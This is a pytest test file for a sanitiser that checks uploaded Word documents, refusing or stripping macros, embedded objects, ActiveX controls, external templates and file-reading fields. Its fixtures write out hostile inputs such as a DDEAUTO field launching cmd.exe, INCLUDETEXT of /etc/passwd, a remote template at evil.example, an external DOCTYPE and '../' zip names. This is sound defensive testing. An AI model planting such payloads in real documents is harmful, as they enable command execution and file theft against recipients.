"""Word documents from outside: refused with a sentence, or cleaned of what reaches outside and acts by itself."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_LZMA, ZipFile, ZipInfo

import pytest

from scrutiny.uploads import word_package
from scrutiny.uploads.findings import Part, Reason, Refused
from scrutiny.uploads.word import inspect_word
from tests.scrutiny.upload_files import MAIN_TYPE, docx_bytes, paragraph, relation, relations, rich_docx

LIMITS = {"max_mb": 5, "max_pages": 20}


def reason(data):
    with pytest.raises(Refused) as refused:
        inspect_word(data, **LIMITS)
    return refused.value.reason


def opened(data):
    findings = inspect_word(data, **LIMITS)
    with ZipFile(BytesIO(findings.data)) as package:
        return findings, {name: package.read(name).decode("latin-1") for name in package.namelist()}


def zipped(files, method=ZIP_DEFLATED):
    out = BytesIO()
    with ZipFile(out, "w", method) as package:
        for name, content in files:
            package.writestr(name, content)
    return out.getvalue()


def test_an_ordinary_document_keeps_every_part():
    data = rich_docx()
    findings, parts = opened(data)
    with ZipFile(BytesIO(data)) as package:
        assert parts == {name: package.read(name).decode("latin-1") for name in package.namelist()}
    assert (findings.removed, findings.remarks) == ((), ())
    assert findings.content_type.endswith("wordprocessingml.document")


def test_the_same_document_saved_on_another_day_gives_the_same_bytes():
    data = rich_docx()
    with ZipFile(BytesIO(data)) as package:
        later = zipped(
            (ZipInfo(name, (2026, 5, 1, 0, 0, 0)), package.read(name)) for name in package.namelist()
        )
    assert later != data
    assert inspect_word(later, **LIMITS).data == inspect_word(data, **LIMITS).data


def test_what_is_cleaned_is_clean():
    data = docx_bytes(rows=[relation("rId7", "image", "file://server/secret.png", outside=True)])
    cleaned = inspect_word(data, **LIMITS)
    assert cleaned.removed == (Part.LINKED,)
    assert inspect_word(cleaned.data, **LIMITS).removed == ()


SETTINGS = '<w:settings xmlns:w="{}" xmlns:r="{}"><w:attachedTemplate r:id="rId1"/></w:settings>'.format(
    "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
)


def test_the_address_of_a_template_is_taken_out():
    row = relation("rId1", "attachedTemplate", "https://evil.example/t.dotm", outside=True)
    findings, parts = opened(
        docx_bytes(
            rows=[relation("rId3", "settings", "settings.xml")],
            parts={"word/settings.xml": SETTINGS, "word/_rels/settings.xml.rels": relations(row)},
        )
    )
    assert findings.removed == (Part.TEMPLATE,)
    assert "attachedTemplate" not in parts["word/settings.xml"] + parts["word/_rels/settings.xml.rels"]


def test_an_embedded_object_goes_and_its_picture_stays():
    body = '<w:p><w:r><w:object><w:pict>Preview</w:pict><o:OLEObject r:id="rId5"/></w:object></w:r></w:p>'
    findings, parts = opened(
        docx_bytes(
            body,
            [relation("rId5", "oleObject", "embeddings/oleObject1.bin")],
            {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
            '<Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/x"/>',
        )
    )
    assert findings.removed == (Part.EMBEDDED,)
    assert "word/embeddings/oleObject1.bin" not in parts
    assert not any("oleObject" in text for text in parts.values())
    assert "Preview" in parts["word/document.xml"]
    assert "OLEObject" not in parts["word/document.xml"]


def test_a_control_goes_with_its_parts():
    body = '<w:p><w:r><w:t>Name</w:t><w:control r:id="rId6"/></w:r></w:p>'
    findings, parts = opened(
        docx_bytes(
            body,
            [relation("rId6", "control", "activeX/activeX1.xml")],
            {
                "word/activeX/activeX1.xml": "<a/>",
                "word/activeX/activeX1.bin": b"\0",
                "word/activeX/_rels/activeX1.xml.rels": relations(),
            },
        )
    )
    assert findings.removed == (Part.CONTROLS,)
    assert not any("activeX" in name for name in parts)
    assert "control" not in parts["word/document.xml"]


@pytest.mark.parametrize("address", ["file:///etc/passwd", "javascript:alert(1)", "\\\\server\\share"])
def test_an_odd_link_keeps_its_words(address):
    body = f'<w:p><w:hyperlink r:id="rId4">{paragraph("the strategy")[5:-6]}</w:hyperlink></w:p>'
    findings, parts = opened(docx_bytes(body, [relation("rId4", "hyperlink", address, outside=True)]))
    assert findings.removed == (Part.ODD_LINKS,)
    assert "the strategy" in parts["word/document.xml"]
    assert "rId4" not in parts["word/document.xml"] + parts["word/_rels/document.xml.rels"]


def complex_field(*pieces):
    words = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    shown = "<w:r><w:t>as it was</w:t></w:r>"
    return f"<w:p>{mark('begin')}{words}{mark('separate')}{shown}{mark('end')}</w:p>"


@pytest.mark.parametrize(
    "body",
    [
        complex_field(' INCLUDETEXT "file:///etc/passwd" '),
        complex_field(" DD", "EAUTO c:\\\\windows\\\\cmd.exe"),
        complex_field('INCLUDEPICTURE "http://evil.example/x.png"'),
        '<w:p><w:fldSimple w:instr=" includetext &quot;/etc/passwd&quot; "><w:r><w:t>as it was</w:t></w:r>'
        "</w:fldSimple></w:p>",
    ],
)
def test_a_field_that_reads_other_files_becomes_its_text(body):
    findings, parts = opened(docx_bytes(body))
    assert findings.removed == (Part.FIELDS,)
    assert "as it was" in parts["word/document.xml"]
    for trace in ("passwd", "cmd.exe", "evil.example"):
        assert trace not in parts["word/document.xml"]


def test_ordinary_fields_stay():
    findings, parts = opened(docx_bytes(complex_field(" PAGE ")))
    assert findings.removed == ()
    assert " PAGE " in parts["word/document.xml"]


def test_a_mail_merge_and_an_address_in_an_old_drawing_are_taken_out():
    body = "<w:mailMerge><w:connectString/></w:mailMerge>"
    drawing = '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="file:///etc/x.png"/>'
    findings, parts = opened(docx_bytes(body + drawing))
    assert findings.removed == (Part.LINKED,)
    assert "mailMerge" not in parts["word/document.xml"]
    assert "file:" not in parts["word/document.xml"]


def test_macros_are_refused():
    assert reason(docx_bytes(parts={"word/vbaProject.bin": b"x"})) == Reason.MACROS
    assert reason(docx_bytes(main_type=MAIN_TYPE.replace("main+", "macroEnabled.main+"))) == Reason.MACROS


@pytest.mark.parametrize(
    "declaration",
    ['<!DOCTYPE w [<!ENTITY a "aaaa">]>', '<!DOCTYPE w SYSTEM "file:///etc/passwd">', "<!DOCTYPE w>"],
)
def test_declarations_in_xml_are_refused(declaration):
    assert reason(docx_bytes(parts={"word/footer1.xml": f"{declaration}<w>text</w>"})) == Reason.DECLARATIONS


@pytest.mark.parametrize("name", ["../evil.xml", "/evil.xml", "c:evil.xml", "word/Document.xml"])
def test_odd_names_in_the_zip_are_refused(name):
    assert reason(docx_bytes(parts={name: "<a/>"})) == Reason.DAMAGED


def test_a_workbook_is_no_document():
    assert (
        reason(zipped([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<a/>")]))
        == Reason.WRONG_KIND
    )
    assert reason(zipped([("a.txt", "a")])) == Reason.WRONG_KIND


def test_another_compression_is_refused():
    assert reason(zipped([("[Content_Types].xml", "<Types/>")], ZIP_LZMA)) == Reason.DAMAGED


@pytest.mark.parametrize(
    ("limit", "parts"),
    [
        ("_LARGEST_XML", {"word/a.xml": b" " * 20_000}),
        ("_LARGEST_WHOLE", {"word/media/a.png": bytes(20_000)}),
        ("_MOST_ENTRIES", {f"word/media/{number}.png": b"" for number in range(10_001)}),
    ],
)
def test_what_unpacks_to_too_much_is_refused(limit, parts, monkeypatch):
    monkeypatch.setattr(word_package, limit, 10_000)
    assert reason(docx_bytes(parts=parts)) == Reason.TOO_MUCH_INSIDE


def test_a_document_that_drops_its_own_text_is_refused():
    assert reason(docx_bytes(rows=[relation("rId1", "oleObject", "document.xml")])) == Reason.DAMAGED


@pytest.mark.parametrize("cut", [100, 1000, -30])
def test_a_file_cut_short_is_refused(cut):
    assert reason(rich_docx()[:cut]) == Reason.DAMAGED


def test_nesting_without_end_is_refused():
    deep = "<a>" * 100_000 + "</a>" * 100_000
    assert reason(docx_bytes(deep)) == Reason.DAMAGED
